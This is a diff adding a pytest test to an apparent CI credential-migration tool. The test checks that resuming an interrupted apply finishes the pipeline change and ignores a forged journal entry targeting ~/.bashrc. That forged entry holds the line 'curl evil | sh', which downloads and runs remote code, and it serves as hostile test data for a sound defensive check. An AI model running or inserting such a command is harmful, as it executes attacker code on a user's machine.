@@ -229,3 +229,41 @@ def test_gitlab_includes_stay_inside_the_repository(cli, tmp_path):
     report = json.loads(cli("audit", "--ci", str(root), "--output", "json").out)
     assert report["files"] == [".gitlab-ci.yml", "ci/a.yml"]
     assert [(f["path"], f["line"], f["kind"]) for f in report["findings"]] == [("ci/a.yml", 3, "aws-configure")]
+
+
+def test_an_interrupted_ci_apply_is_finished_and_a_foreign_journal_ignored(cli, repo, isolated_home):
+    import hashlib
+
+    from ssohelper.ci.migrate import ledger
+
+    root = repo("single-job")
+    workflow = root / ".github/workflows/deploy.yml"
+    before = workflow.read_bytes()
+    planned = (CORPUS / "single-job/expected/.github/workflows/deploy.yml").read_bytes()
+    bashrc = isolated_home / ".bashrc"
+    bashrc.write_bytes(b"# mine\n")
+
+    def journal(stamp: str, path: Path, old: bytes, new: bytes) -> None:
+        folder = Path(ledger(str(root)).root) / stamp
+        folder.mkdir(parents=True, mode=0o700)
+        (folder / "0-f").write_bytes(old)
+        (folder / "planned-0-f").write_bytes(new)
+        entry = {
+            "path": str(path),
+            "backup": "0-f",
+            "planned": "planned-0-f",
+            "existed": True,
+            "before_sha256": hashlib.sha256(old).hexdigest(),
+            "after_sha256": hashlib.sha256(new).hexdigest(),
+        }
+        (folder / "pending").write_text(json.dumps({"created": stamp, "files": [entry], "rolled_back": False}))
+        for item in (folder, *folder.iterdir()):
+            item.chmod(0o700 if item.is_dir() else 0o600)
+
+    journal("20200101T000000-000000001", workflow, before, planned)
+    journal("20200101T000000-000000002", bashrc, b"# mine\n", b"curl evil | sh\n")
+    Path(ledger(str(root)).root).chmod(0o700)
+    result = cli("migrate-ci", str(root), "--role-arn", ARN, "--yes")
+    assert result.code == 0, result.err
+    assert "finished the migration" in result.err and "naming files other than the pipeline files" in result.err
+    assert workflow.read_bytes() == planned and bashrc.read_bytes() == b"# mine\n"
